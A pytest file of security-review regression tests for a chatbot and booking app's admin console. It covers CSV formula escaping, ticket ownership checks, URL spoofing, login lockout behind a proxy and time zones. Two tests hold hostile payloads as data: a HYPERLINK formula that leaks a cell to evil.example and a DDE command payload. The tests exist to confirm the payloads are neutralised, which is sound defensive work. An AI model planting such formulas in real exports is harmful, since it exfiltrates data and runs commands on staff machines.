"""Findings of the security review, each through the entry point an attacker would use."""

from __future__ import annotations

import csv
import io

import pytest

from bot import create_app
from tests.admin_helpers import PASSWORD, create_staff, csrf_token, login
from tests.conftest import app_overrides
from tests.test_admin_service import _book


@pytest.fixture()
def app(shipped_index, shipped_kb, tmp_path):
    app = create_app(app_overrides(shipped_index, tmp_path), embedder=shipped_kb.embedder)
    create_staff(app, "agent1", "agent")
    create_staff(app, "editor1", "editor")
    return app


def test_csv_export_keeps_staff_text_from_running_as_a_formula(app):
    number = _book(app.test_client())
    agent = app.test_client()
    login(agent, "agent1")
    token = csrf_token(agent, f"/admin/bookings/{number}")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    agent.post(f"/admin/bookings/{number}/cancel", data={"csrf_token": token, "reason": formula})
    rows = list(csv.reader(io.StringIO(agent.get("/admin/bookings.csv").get_data().decode("utf-8-sig"))))
    assert rows[1][8] == "'" + formula  # a spreadsheet shows it as text
    assert rows[1][0] == number          # ordinary cells unchanged


def test_conversation_log_csv_keeps_what_users_typed_from_running_as_a_formula(app):
    """A user's question goes straight into the 对话记录 export: a WeChat or web visitor, not
    staff, chooses its first character."""
    formula = "=cmd|' /C calc'!A0"
    app.test_client().post("/api/chat", json={"text": formula})
    editor = app.test_client()
    login(editor, "editor1")
    rows = list(csv.reader(io.StringIO(editor.get("/admin/log.csv").get_data().decode("utf-8-sig"))))
    assert rows[0][3] == "问题" and len(rows) == 2
    assert rows[1][3] == "'" + formula   # the question column, shown as text
    assert rows[1][1] == "网页"          # ordinary cells unchanged


def test_ticket_followup_checks_the_owner_in_the_domain_function(app):
    from bot.tickets import TicketNotFound, open_ticket, user_followup

    with app.extensions["talent.db"]() as s:
        number = open_ticket(s, "web:alice", "我想问落户的事", []).number
    with app.extensions["talent.db"]() as s:
        with pytest.raises(TicketNotFound):
            user_followup(s, number, "web:mallory", "替别人补充")
    with app.extensions["talent.db"]() as s:
        assert user_followup(s, number, "web:alice", "补充：本科学历").status == "open"


def test_rerun_results_cannot_be_spoofed_through_the_url(app):
    editor = app.test_client()
    login(editor, "editor1")
    spoof = '{"1": {"found": true, "answer": "伪造的答案"}}'
    page = editor.get("/admin/unanswered", query_string={"rerun": spoof})
    assert page.status_code == 200 and "伪造的答案" not in page.get_data(as_text=True)
    assert editor.get("/admin/unanswered", query_string={"rerun": "{not json"}).status_code == 200


def test_behind_a_proxy_one_clients_failures_do_not_lock_out_another(shipped_index, tmp_path, monkeypatch):
    """TRUSTED_PROXIES=1 (deploy/systemd/env.example): the client address comes from X-Forwarded-For."""
    monkeypatch.setenv("TRUSTED_PROXIES", "1")
    app = create_app(app_overrides(shipped_index, tmp_path))
    assert app.config["SETTINGS"].server.trusted_proxies == 1
    create_staff(app, "staff1", "editor")
    attacker = app.test_client()
    for i in range(31):
        res = attacker.post("/admin/login", data={"name": f"guess{i}", "password": "x",
                                                  "csrf_token": csrf_token(attacker)},
                            headers={"X-Forwarded-For": "203.0.113.5"})
    assert res.status_code == 429  # the attacker's address is blocked ...
    staff = app.test_client()
    res = staff.post("/admin/login", data={"name": "staff1", "password": PASSWORD, "csrf_token": csrf_token(staff)},
                     headers={"X-Forwarded-For": "198.51.100.7"})
    assert res.status_code == 302  # ... the staff member's is not


def test_console_times_use_the_configured_time_zone(shipped_index, tmp_path):
    from datetime import datetime

    from bot.dates import local_time

    noon_utc = datetime(2026, 12, 3, 12, 0)
    assert local_time(noon_utc, "Asia/Shanghai") == "2026-12-03 20:00"
    app = create_app(app_overrides(shipped_index, tmp_path, booking={"timezone": "Europe/London"}))
    with app.app_context():
        assert app.jinja_env.filters["datetime"](noon_utc) == "2026-12-03 12:00"
